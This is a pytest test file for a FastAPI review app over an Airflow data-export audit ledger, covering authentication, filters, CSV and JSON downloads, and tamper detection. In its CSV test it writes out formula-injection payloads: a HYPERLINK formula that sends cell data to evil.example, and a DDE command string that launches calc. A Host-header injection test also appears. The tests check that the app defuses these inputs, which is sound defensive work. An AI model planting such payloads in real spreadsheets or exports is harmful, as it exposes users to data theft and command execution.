"""The review app through FastAPI's TestClient, with Airflow's real auth (SimpleAuthManager, tokens it issues,
its revoked-token table in a migrated SQLite metadata database) and the real ledger Store.

Airflow reads its configuration when it is imported, so the module fixture points this process's Airflow at a
freshly migrated database and the test users, and puts everything back afterwards.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from html import escape as html_escape
from pathlib import Path
from typing import Any

import pytest
from airflow import settings
from airflow.api_fastapi import app as airflow_app
from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
from airflow.configuration import conf
from export_gate.airflow.web import dashboard
from export_gate.airflow.web.app import create_app
from export_gate.airflow.web.filters import PAGE_SIZE
from export_gate.model import Counts
from export_gate.records.ledger import Store
from export_gate.rules.handler import parse_filing
from faker import Faker
from fastapi.testclient import TestClient
from gate_data import CANARY_ID, CANARY_PHONE
from review_records import decision_record, error_record, run_real_gates

pytestmark = pytest.mark.airflow

USERS = "reviewer:viewer,nobody:"
PROTECTED = (
    "/",
    "/records/1",
    "/records/1/report",
    "/handlers",
    "/handlers/acme-pharma-sh/2026",
    "/export.csv",
    "/export.json",
    "/task-report?dag_id=d&run_id=r&task_id=t",
)


@pytest.fixture(scope="module")
def airflow_auth(tmp_path_factory: pytest.TempPathFactory) -> Iterator[object]:
    """This process's Airflow on a migrated SQLite database with a reviewer (viewer role) and a user without a
    role; yields the auth manager the api-server would use."""
    home = tmp_path_factory.mktemp("airflow-web")
    env = {k: v for k, v in os.environ.items() if not k.startswith("AIRFLOW")}
    env.update(AIRFLOW_HOME=str(home), AIRFLOW__CORE__LOAD_EXAMPLES="False")
    migrate = [str(Path(sys.executable).parent / "airflow"), "db", "migrate"]
    subprocess.run(migrate, env=env, check=True, capture_output=True, timeout=300)
    changes = {
        ("database", "sql_alchemy_conn"): f"sqlite:///{home / 'airflow.db'}",
        ("core", "simple_auth_manager_users"): USERS,
        ("core", "simple_auth_manager_passwords_file"): str(home / "passwords.json"),
        ("core", "auth_manager"): "airflow.api_fastapi.auth.managers.simple.simple_auth_manager.SimpleAuthManager",
        ("api_auth", "jwt_secret"): "web-test-jwt-secret-" + "0" * 48,
    }
    saved = {key: conf.get(*key, fallback=None) for key in changes}
    for (section, key), value in changes.items():
        conf.set(section, key, value)
    settings.configure_vars()
    settings.reconfigure_orm()
    airflow_app.purge_cached_app()
    try:
        yield airflow_app.create_auth_manager()
    finally:
        for (section, key), value in saved.items():
            if value is None:
                conf.remove_option(section, key)
            else:
                conf.set(section, key, value)
        settings.configure_vars()
        settings.reconfigure_orm()
        airflow_app.purge_cached_app()


def token(auth_manager: object, username: str, role: str) -> str:
    """A session token issued by the auth manager itself, as the Airflow login does."""
    return auth_manager.generate_jwt(SimpleAuthManagerUser(username=username, role=role))  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """A ledger with 120 hand-made gate records over two DAGs, both decisions and one failed gate."""
    folder = tmp_path_factory.mktemp("web-ledger")
    store = Store(f"sqlite:///{folder / 'ledger.db'}")
    for i in range(1, 121):
        dag = "crm_export_national" if i % 4 == 0 else "pv_case_export_shanghai"
        action = ("allow", "annotate", "block")[i % 3]
        store.append_audit(decision_record(action=action, dag_id=dag, run_id=f"scheduled__{i:03d}", export=10 * i))
    store.append_audit(error_record(run_id="manual__err"))
    return store


@pytest.fixture
def client(airflow_auth: object, store: Store) -> TestClient:
    client = TestClient(create_app(lambda: store))
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    return client


def record_page(client: TestClient, record_id: int) -> str:
    """The decision page once its chain check has finished (it runs in the background; the page says so)."""
    for _ in range(50):
        html = client.get(f"/records/{record_id}").text
        if "being verified now" not in html:
            return html
        time.sleep(0.2)
    raise AssertionError("the chain check did not finish within 10 s")


def handler_card(html: str, handler_id: str) -> str:
    """The dashboard's card of ``handler_id``, wherever the page sorts it (ids sort by code point: Faker's
    "MBP软件..." companies come before "acme-...")."""
    cards = [card for card in html.split('<section class="handler-card')[1:] if f">{handler_id}</a>" in card]
    assert len(cards) == 1, f"one card for {handler_id}, found {len(cards)}"
    return cards[0]


def record_ids(html: str) -> list[int]:
    """The ids in the decisions table, in page order."""
    return [int(m) for m in re.findall(r'<tr data-href="[^"]*/records/(\d+)"', html)]


@pytest.mark.parametrize("path", PROTECTED)
def test_without_a_session_every_page_is_401(airflow_auth, store, path):
    response = TestClient(create_app(lambda: store)).get(path)
    assert response.status_code == 401
    assert "record" not in response.text.lower()


def test_a_browser_without_a_session_is_offered_the_airflow_sign_in(airflow_auth, store):
    response = TestClient(create_app(lambda: store)).get("/", headers={"accept": "text/html"})
    assert response.status_code == 401
    assert "Please sign in" in response.text
    assert "/auth/login" in response.text


@pytest.mark.parametrize("path", PROTECTED)
def test_a_user_without_permission_gets_403(airflow_auth, store, path):
    client = TestClient(create_app(lambda: store))
    client.cookies.set("_token", token(airflow_auth, "nobody", ""))
    response = client.get(path)
    assert response.status_code == 403
    assert "audit log" in response.json()["detail"]


def test_a_forged_or_foreign_token_gets_403(airflow_auth, store):
    client = TestClient(create_app(lambda: store))
    assert client.get("/", headers={"Authorization": "Bearer not-a-jwt"}).status_code == 403
    other = token(airflow_auth, "reviewer", "viewer")
    tampered = other[:-4] + ("AAAA" if not other.endswith("AAAA") else "BBBB")
    assert client.get("/", headers={"Authorization": f"Bearer {tampered}"}).status_code == 403


def test_a_bearer_token_works_like_the_session_cookie(airflow_auth, store):
    client = TestClient(create_app(lambda: store))
    headers = {"Authorization": f"Bearer {token(airflow_auth, 'reviewer', 'viewer')}"}
    assert client.get("/", headers=headers).status_code == 200


def test_decisions_newest_first_and_paged(client):
    first = client.get("/")
    assert first.status_code == 200
    assert record_ids(first.text) == list(range(121, 121 - PAGE_SIZE, -1))
    assert "1–50 of 121" in first.text
    assert 'rel="next" href="?page=2"' in first.text
    last = client.get("/?page=3")
    assert record_ids(last.text) == list(range(21, 0, -1))
    assert 'rel="next"' not in last.text
    assert 'rel="prev" href="?page=2"' in last.text


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("dag_id=crm_export_national", lambda r: r["dag_id"] == "crm_export_national"),
        ("action=block", lambda r: r["action"] == "block"),
        (
            "action=annotate&dag_id=crm_export_national",
            lambda r: r["action"] == "annotate" and r["dag_id"] == "crm_export_national",
        ),
        ("list_id=national", lambda r: r["list"]["id"] == "national"),
        ("handler_id=acme-pharma-sh&scenario=pharmacovigilance", lambda r: r.get("scenario") == "pharmacovigilance"),
    ],
)
def test_filters_show_exactly_the_matching_records(client, store, query, expected):
    everything, _ = store.audit.query(limit=1000)
    wanted = [r["id"] for r in everything if expected(r)][:PAGE_SIZE]
    response = client.get(f"/?{query}")
    assert wanted
    assert record_ids(response.text) == wanted
    assert "match the filters" in response.text


def test_date_range_includes_both_days(client, store):
    today = store.audit.get(1)["ts"][:10]
    assert len(record_ids(client.get(f"/?since={today}&until={today}").text)) == PAGE_SIZE
    assert record_ids(client.get("/?until=2000-01-01").text) == []
    assert client.get("/?since=yesterday").status_code == 422
    assert client.get("/?action=maybe").status_code == 422


def test_csv_download_holds_the_filtered_records(client, store):
    response = client.get("/export.csv?action=block&dag_id=pv_case_export_shanghai")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    expected, total = store.audit.query(action="block", dag_id="pv_case_export_shanghai", limit=1000)
    assert len(rows) == total > 0
    assert sorted(int(r["id"]) for r in rows) == sorted(r["id"] for r in expected)
    assert {r["action"] for r in rows} == {"block"}


def test_json_download_holds_the_filtered_records(client, store):
    response = client.get("/export.json?dag_id=crm_export_national")
    assert response.status_code == 200
    records = json.loads(response.text)
    assert len(records) == store.audit.query(dag_id="crm_export_national", limit=1)[1]
    assert {r["dag_id"] for r in records} == {"crm_export_national"}
    assert all(r["hash"] and r["prev_hash"] for r in records)


def test_download_links_carry_the_filters(client):
    html = client.get("/?action=block&dag_id=crm_export_national&page=2").text
    # root-relative: never built from the request's Host (see test_links_never_come_from_the_host_header)
    assert 'href="/export.csv?dag_id=crm_export_national&amp;action=block"' in html
    assert 'href="/export.json?dag_id=crm_export_national&amp;action=block"' in html


def test_one_decision_shows_rule_source_counts_chart_and_task_link(client):
    html = record_page(client, 7)
    assert "Export gate run #7" in html
    assert "national.sensitive.10k" in html
    assert "Provisions on Promoting and Regulating Cross-Border Data Flows" in html
    assert "standard contract filed with the provincial CAC" in html
    assert "standard_contract: SC-2026-0042" in html
    assert '<svg class="chart"' in html
    assert 'href="/dags/pv_case_export_shanghai/runs/scheduled__007/tasks/gate"' in html
    assert "intact: all 121 records verify" in html


def test_a_failed_gate_shows_its_error_and_no_rule(client):
    html = client.get("/records/121").text
    assert "could not decide and blocked the export" in html
    assert "missing.csv does not exist" in html
    assert "No rule applied." in html


def test_chain_status_names_a_tampered_record(airflow_auth, tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'ledger.db'}")
    for i in range(5):
        store.append_audit(decision_record(run_id=f"r{i}"))
    with sqlite3.connect(tmp_path / "ledger.db") as db:
        db.execute("UPDATE audit_log SET record = replace(record, '1200', '12') WHERE id = 3")
    client = TestClient(create_app(lambda: store))
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    assert "BROKEN at record #3" in record_page(client, 4)
    assert "broken later, at record #3" in record_page(client, 2)


def test_task_report_link_redirects_to_the_newest_gate_record_of_that_run(client):
    response = client.get(
        "/task-report",
        params={"dag_id": "pv_case_export_shanghai", "run_id": "scheduled__005", "task_id": "gate"},
        follow_redirects=False,
    )
    assert response.status_code == 303
    assert response.headers["location"] == "/records/5/report"
    missing = client.get("/task-report", params={"dag_id": "pv_case_export_shanghai", "run_id": "x", "task_id": "gate"})
    assert missing.status_code == 404


def test_report_page_is_the_self_contained_report(client):
    response = client.get("/records/7/report")
    assert response.status_code == 200
    assert "<style>" in response.text
    assert "<link" not in response.text
    assert "<script" not in response.text


def test_unknown_record_is_404(client):
    assert client.get("/records/9999").status_code == 404


@pytest.fixture(scope="module")
def gated(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, dict[str, int]]:
    """A ledger filled by the real gate: Presidio scans, the national list decides, the ledger counts."""
    folder = tmp_path_factory.mktemp("gated")
    url = f"sqlite:///{folder / 'ledger.db'}"
    return Store(url), run_real_gates(url, folder)


def test_real_gate_records_show_and_no_raw_value_reaches_any_page(airflow_auth, gated):
    store, ids = gated
    client = TestClient(create_app(lambda: store))
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    pages = ["/", "/export.csv", "/export.json", "/handlers", "/handlers/acme-pharma-sh/2026"]
    pages += [f"/records/{i}" for i in ids.values()] + [f"/records/{i}/report" for i in ids.values()]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        for raw in (CANARY_ID, CANARY_PHONE, "customer0@example.cn", "13800000000"):
            assert raw not in response.text, f"{raw} on {path}"
    annotated = client.get(f"/records/{ids['annotated']}").text
    assert "sensitive-under-10k-contract" in annotated
    assert "SC-2026-001" in annotated
    assert "people told apart by the subject key column(s) customer_id" in annotated


def test_handler_timeline_charts_the_cumulative_people_against_thresholds(airflow_auth, gated):
    store, _ = gated
    client = TestClient(create_app(lambda: store))
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    assert "acme-pharma-sh" in client.get("/handlers").text
    html = client.get("/handlers/acme-pharma-sh/2026").text
    assert html.count("<path ") == 2  # the personal and the sensitive line
    assert "sensitive 10,000" in html  # the threshold line the reviewer watches
    assert "9,970" in html  # people left before the sensitive threshold
    final = store.counts("acme-pharma-sh", 2026)
    assert f"<strong>{final.personal:,}</strong> people with personal information" in html


def test_an_unreachable_ledger_is_503_naming_the_database(airflow_auth):
    down = "postgresql+psycopg://gate:gate@127.0.0.1:9/ledger?connect_timeout=2"
    client = TestClient(create_app(lambda: Store(down)))
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    response = client.get("/", headers={"accept": "text/html"})
    assert response.status_code == 503
    assert "127.0.0.1" in response.text
    assert "gate:gate" not in response.text  # never the password


def test_filters_suggest_the_values_in_the_log(client):
    html = client.get("/").text
    assert (
        '<datalist id="choices-dag_id"><option value="crm_export_national"><option value="pv_case_export_shanghai">'
        in html
    )
    assert '<option value="pharmacovigilance">' in html


# ------------------------------------------------------------------------------------------------------------
# Issue 15: the review page's defects, each through the real app, the real auth manager and the real Store.


def reviewer_client(airflow_auth: object, store: Store, **kwargs: Any) -> TestClient:
    client = TestClient(create_app(lambda: store), **kwargs)
    client.cookies.set("_token", token(airflow_auth, "reviewer", "viewer"))
    return client


def fresh_store(tmp_path: Path, records: list[dict]) -> Store:
    store = Store(f"sqlite:///{tmp_path / 'ledger.db'}")
    for record in records:
        store.append_audit(record)
    return store


def test_a_handler_id_with_a_slash_and_url_characters_opens_everywhere(airflow_auth, tmp_path):
    """Defect 1: Starlette refuses "/" in a path parameter, so /handlers and the record page answered 500."""
    company = Faker("zh_CN").company()
    handler_id = f"{company}/上海 分公司?#%"
    store = fresh_store(tmp_path, [decision_record(handler_id=handler_id), error_record(handler_id=handler_id)])
    client = reviewer_client(airflow_auth, store)
    listing = client.get("/handlers")
    assert listing.status_code == 200
    link = re.search(r'<a href="(/handlers/[^"]+/2026)">', listing.text)
    assert link and "%2F" in link.group(1) and "%3F" in link.group(1) and "%23" in link.group(1)
    page = client.get(link.group(1))
    assert page.status_code == 200
    assert html_escape(handler_id) in page.text
    for record_id in (1, 2):
        assert client.get(f"/records/{record_id}").status_code == 200
        assert client.get(f"/records/{record_id}/report").status_code == 200
    assert link.group(1) in client.get("/records/1").text  # the record links to its handler's page
    assert client.get("/").status_code == 200


@pytest.mark.parametrize("bad", ["%00", "a%7Fb", "%E2%80%AEevil", "x" * 201])
def test_handler_ids_no_ledger_can_hold_are_refused_with_a_reason(client, bad):
    response = client.get(f"/handlers/{bad}/2026")
    assert response.status_code == 404
    assert "not a data handler id" in response.json()["detail"]


def test_csv_is_flat_safe_from_formulas_and_readable_by_excel(airflow_auth, tmp_path):
    """Defect 4: cells starting with = + - @ went out as formulas; one JSON column; no BOM for Chinese."""
    fake = Faker("zh_CN")
    crafted = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    chinese = fake.company()
    store = fresh_store(
        tmp_path,
        [
            decision_record(handler_id=crafted, run_id="+cmd|' /C calc'!A0", task_id="@SUM(1+1)", export=1200),
            decision_record(handler_id=chinese, dag_id="-2+3", action="block"),
            error_record(handler_id=chinese),
        ],
    )
    body = reviewer_client(airflow_auth, store).get("/export.csv").content
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark: Excel reads the Chinese as UTF-8
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0]["handler_id"] == "'" + crafted
    assert rows[0]["run_id"].startswith("'+") and rows[0]["task_id"].startswith("'@")
    assert rows[1]["dag_id"] == "'-2+3" and rows[1]["handler_id"] == chinese
    every_cell = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@")]
    assert "record" not in rows[0]  # no JSON column: one column per fact
    first = rows[0]
    assert (first["export_personal"], first["ytd_before_personal"], first["ytd_after_personal"]) == (
        "1200",
        "9000",
        "10200",
    )
    assert first["export_medical_health"] == "1200"
    assert (first["rule_id"], first["rule_threshold"], first["mechanism"]) == (
        "national.sensitive.10k",
        "10000",
        "standard_contract",
    )
    assert first["filings_used"] == "standard_contract SC-2026-0042 2026-01-10"
    assert rows[1]["decided_by"] == "missing: standard contract"
    # a gate that failed before counting: the counts are unknown (empty), not 0
    assert rows[2]["export_personal"] == rows[2]["ytd_after_sensitive"] == ""
    assert rows[2]["decided_by"].startswith("gate error")


def test_confirm_release_and_error_records_show_as_what_they_are(airflow_auth, tmp_path):
    """Defect 5: these showed as UNKNOWN with zero counts and a chart of zeros."""
    store = fresh_store(
        tmp_path,
        [
            decision_record(reservation="pv/run-1/gate"),
            decision_record(reservation="pv/run-2/gate", run_id="r2"),
            {"event": "confirm", "reservation": "pv/run-1/gate", "dag_id": "pv", "run_id": "r1", "task_id": "ship"},
            {"event": "release", "reservation": "pv/run-2/gate", "dag_id": "pv", "run_id": "r2", "task_id": "ship"},
            error_record(),
        ],
    )
    client = reviewer_client(airflow_auth, store)
    listing = client.get("/").text
    assert "badge-unknown" not in listing
    assert 'class="badge badge-confirm"' in listing and 'class="badge badge-release"' in listing
    assert 'href="/records/1">→ gate record #1' in listing and 'href="/records/2">→ gate record #2' in listing
    assert "count unknown" in listing
    confirm = client.get("/records/3").text
    assert "Confirmation #3" in confirm and 'class="gate-record" href="/records/1"' in confirm
    assert "<svg" not in confirm
    assert "Release #4" in client.get("/records/4").text
    failed = client.get("/records/5").text
    assert "the number is not known (it is not 0)" in failed
    assert "<svg" not in failed  # no chart of zeros
    assert "<svg" not in client.get("/records/5/report").text


def test_no_link_comes_from_the_host_header_and_pages_are_not_cached(airflow_auth, store):
    """Defect 8: links were built from Host (Host: evil.example loaded scripts from there)."""
    client = reviewer_client(airflow_auth, store, base_url="http://evil.example")
    for path in ("/", "/records/7", "/records/7/report", "/handlers", "/handlers/acme-pharma-sh/2026"):
        response = client.get(path, headers={"X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example"})
        assert response.status_code == 200, path
        assert "evil.example" not in response.text, path
        assert not re.search(r'(href|src|action)="(https?:)?//', response.text.replace("https://www.cac.gov.cn", ""))
        assert response.headers["cache-control"] == "no-store"
        policy = response.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'self'" in policy
        assert "unsafe-inline" not in policy
    redirect = client.get(
        "/task-report",
        params={"dag_id": "pv_case_export_shanghai", "run_id": "scheduled__005", "task_id": "gate"},
        follow_redirects=False,
    )
    assert redirect.headers["location"] == "/records/5/report"
    assert client.get("/export.csv").headers["cache-control"] == "no-store"


def test_the_report_policy_allows_exactly_its_own_inline_stylesheet(client):
    response = client.get("/records/7/report")
    policy = response.headers["content-security-policy"]
    css = re.search(r"<style>(.*?)</style>", response.text, re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy
    assert "script-src" not in policy  # default-src 'none': the report runs no script


def test_tampering_is_flagged_on_the_list_and_the_report(airflow_auth, tmp_path):
    """Defect 9: only the record page said the chain was broken."""
    store = fresh_store(tmp_path, [decision_record(run_id=f"r{i}") for i in range(5)])
    with sqlite3.connect(tmp_path / "ledger.db") as db:
        db.execute("UPDATE audit_log SET record = replace(record, '1200', '12') WHERE id = 3")
    client = reviewer_client(airflow_auth, store)
    listing = wait_for_chain(client, "/")
    assert "BROKEN at record #3" in listing
    flagged = re.findall(r'<tr data-href="/records/(\d+)" class="event-gate untrusted">', listing)
    assert sorted(map(int, flagged)) == [3, 4, 5]
    assert "BROKEN at record #3" in wait_for_chain(client, "/records/4/report")
    assert "broken later, at record #3" in wait_for_chain(client, "/records/2/report")


def wait_for_chain(client: TestClient, path: str) -> str:
    for _ in range(50):
        html = client.get(path).text
        if "being verified now" not in html:
            return html
        time.sleep(0.2)
    raise AssertionError("the chain check did not finish within 10 s")


def test_a_page_past_the_last_says_so_and_links_back(client):
    html = client.get("/?page=99&dag_id=crm").text
    assert "Page 99 is past the last page (1)" in html
    assert 'rel="last" href="?dag_id=crm"' in html
    assert "4,901" not in html and 'rel="prev"' not in html


def test_the_list_version_is_shown_whole_not_cut_in_the_hash(airflow_auth, tmp_path):
    digest = hashlib.sha256(b"shanghai list").hexdigest()
    record = decision_record(list={"id": "shanghai_ftz_2024", "version": f"2024-03-22+sha256:{digest}"})
    html = reviewer_client(airflow_auth, fresh_store(tmp_path, [record])).get("/records/1").text
    assert "version 2024-03-22" in html and f"sha256:{digest}" in html
    assert ">2024-03-22+s<" not in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("dag_id=PV_CASE", lambda r: "pv_case" in r["dag_id"]),
        ("run_id=__01", lambda r: "__01" in r["run_id"]),
        ("task_id=GAT", lambda r: r["task_id"] == "gate"),
        ("handler_id=Pharma", lambda r: True),
        ("rule_id=SENSITIVE.10", lambda r: r.get("rule_id") == "national.sensitive.10k"),
        ("event=gate&action=allow", lambda r: r["event"] == "gate" and r["action"] == "allow"),
        ("dag_id=%25", lambda r: False),  # the user's % is a character, not a wildcard
    ],
)
def test_filters_match_parts_of_values_in_any_case(client, store, query, expected):
    """Defect 10: filters were exact and case-sensitive; no run, task, rule or event filter."""
    everything, _ = store.audit.query(limit=1000)
    wanted = [r["id"] for r in everything if expected(r)][:PAGE_SIZE]
    assert record_ids(client.get(f"/?{query}").text) == wanted


def test_sorting_oldest_first_and_by_people(client, store):
    assert record_ids(client.get("/?sort=oldest").text) == list(range(1, PAGE_SIZE + 1))
    by_people = record_ids(client.get("/?sort=people&dag_id=crm").text)
    people = {r["id"]: r["counts"]["export"]["personal"] for r in store.audit.query(limit=1000)[0] if r.get("counts")}
    # the failed gate counted nobody it knows of: last, after every counted export
    assert [people.get(i, -1) for i in by_people] == sorted((people.get(i, -1) for i in by_people), reverse=True)
    assert client.get("/?sort=bogus").status_code == 422


def test_date_filters_use_the_exports_date_not_the_time_of_writing(airflow_auth, tmp_path):
    store = fresh_store(
        tmp_path,
        [
            decision_record(run_id="march", as_of="2026-03-02T00:00:00+00:00"),
            decision_record(run_id="june", as_of="2026-06-30T00:00:00+00:00"),
        ],
    )
    client = reviewer_client(airflow_auth, store)
    assert record_ids(client.get("/?since=2026-03-01&until=2026-03-31").text) == [1]
    assert record_ids(client.get("/?since=2026-06-30").text) == [2]
    assert "2026-03-02" in client.get("/").text


def test_chinese_labels_when_airflow_is_in_chinese(client):
    assert "数据出境决定" in client.get("/", headers={"accept-language": "zh-CN,zh;q=0.9"}).text
    english = client.get("/", headers={"accept-language": "en-US"}).text
    assert "Export decisions" in english and 'lang="en"' in english
    client.cookies.set("export_gate_lang", "zh-CN")  # what app.js sets from Airflow's language
    chinese = client.get("/", headers={"accept-language": "en-US"}).text
    assert "数据出境决定" in chinese and 'lang="zh-CN"' in chinese
    record = record_page(client, 7)
    assert "统计人数" in record and "个人信息处理者" in record and ">附注放行</span>" in record


def test_dashboard_shows_every_threshold_used_warnings_and_blocked_only_handlers(airflow_auth, tmp_path):
    """Reviewer dashboard: per handler and year, the thresholds of its lists, share used, near and over."""
    ledger = f"sqlite:///{tmp_path / 'ledger.db'}"
    ids = run_real_gates(ledger, tmp_path)
    store = Store(ledger)
    blocked_only = Faker("zh_CN").company()
    store.append_audit(decision_record(handler_id=blocked_only, action="block", export=20000, before=0))
    client = reviewer_client(airflow_auth, store)
    html = client.get("/handlers").text
    card = handler_card(html, blocked_only)
    assert "all blocked: nothing counted" in card
    assert "block (blocked: +0)</a>" in card  # the exports that (did not) move it, listed on the card
    assert "sensitive ≥ 10,000" in card and "0%" in card  # nothing counted, so nothing used
    acme = handler_card(html, "acme-pharma-sh")
    assert f'href="/records/{ids["failed"]}" class="not-moved"' in acme
    counts = store.counts("acme-pharma-sh", 2026)
    assert f'personal ≥ 100,000</td>\n      <td class="num">{counts.personal:,}' in acme
    assert "sensitive ≥ 10,000" in acme and "personal ≥ 1,000,000" in acme
    detail = client.get("/handlers/acme-pharma-sh/2026").text
    for name in ("allowed", "annotated", "blocked", "failed"):
        assert f'href="/records/{ids[name]}"' in detail, name
    assert 'class="outcome outcome-missing small">missing: standard contract' in detail
    assert "count unknown" in detail  # the failed gate


def test_near_and_over_thresholds_are_warned(airflow_auth, tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'ledger.db'}")
    summary_near = dashboard.summary("h", 2026, [decision_record(export=100, before=8000)], Counts(8100, 8100))
    assert [(limit.count, limit.threshold, limit.state) for limit in summary_near.warnings] == [
        ("sensitive", 10000, "near")
    ]
    over = dashboard.summary("h", 2026, [decision_record()], Counts(10200, 10200))
    assert [limit.state for limit in over.limits if limit.count == "sensitive"] == ["over"]
    assert store.audit.query(limit=1)[1] == 0  # pure functions: nothing written


def test_the_deciding_condition_is_highlighted_on_the_list_and_the_record(airflow_auth, tmp_path):
    blocked = decision_record(action="block")
    blocked["decision"]["filings_used"] = []
    client = reviewer_client(airflow_auth, fresh_store(tmp_path, [blocked, decision_record(action="annotate")]))
    listing = client.get("/").text
    assert '<span class="outcome outcome-missing small">missing: standard contract</span>' in listing
    assert '<span class="outcome outcome-on-file small">on file: standard contract SC-2026-0042</span>' in listing
    assert (
        '<p class="outcome outcome-missing"><strong>missing: standard contract</strong></p>'
        in client.get("/records/1").text
    )


def test_review_and_filing_records_show_as_what_they_are(airflow_auth, tmp_path):
    """Records of a reviewer's answer to a block (approvals) and of a filing register change: named, linked
    to the records they are about, never shown as an unknown decision."""
    from dataclasses import replace

    from export_gate.airflow.review import Amendment, Answer, review_record
    from export_gate.records.filings import add_filing

    store = fresh_store(tmp_path, [decision_record(action="block"), decision_record(action="annotate")])
    run = {"dag_id": "pv_case_export_shanghai", "run_id": "manual__1", "task_id": "gate", "try_number": 1}
    answer = Answer(
        "approve",
        {"id": "7", "name": "审核员"},
        "2026-03-03T10:00:00+00:00",
        "contract filed yesterday",
        Amendment(filing="standard_contract=SC-2026-0042@2026-03-02"),
    )
    blocked = {**store.audit.get(1), "audit_id": 1}
    store.append_audit(review_record(blocked, answer, run, {"action": "annotate", "audit_id": 2}))
    store.append_audit(review_record(blocked, replace(answer, outcome="reject"), run, None))
    contract = replace(
        parse_filing("standard_contract=SC-2026-0099@2026-02-01"), recipients=("EU-PV-Hub",), scope=("sensitive",)
    )
    add_filing(store.engine, "acme-pharma-sh", contract)
    client = reviewer_client(airflow_auth, store)
    listing = client.get("/").text
    assert "badge-unknown" not in listing and "count unknown" not in listing
    assert "approved by 审核员 (contract filed yesterday); decided again: annotate" in listing
    assert 'href="/records/1">→ blocked gate record #1' in listing and 'href="/records/2">→ new decision #2' in listing
    assert "rejected by 审核员: stays blocked" in listing
    assert "filing added: standard contract SC-2026-0099" in listing
    review = client.get("/records/3").text
    assert "Review of a blocked export #3" in review and "<svg" not in review
    assert "filing: standard_contract=SC-2026-0042@2026-03-02" in review
    assert "Filing register change #5" in client.get("/records/5").text
    assert record_ids(client.get("/?event=review").text) == [4, 3]
    rows = list(csv.DictReader(io.StringIO(client.get("/export.csv?event=review").content.decode("utf-8-sig"))))
    assert [(r["event"], r["gate_record"]) for r in rows] == [("review", "1"), ("review", "1")]
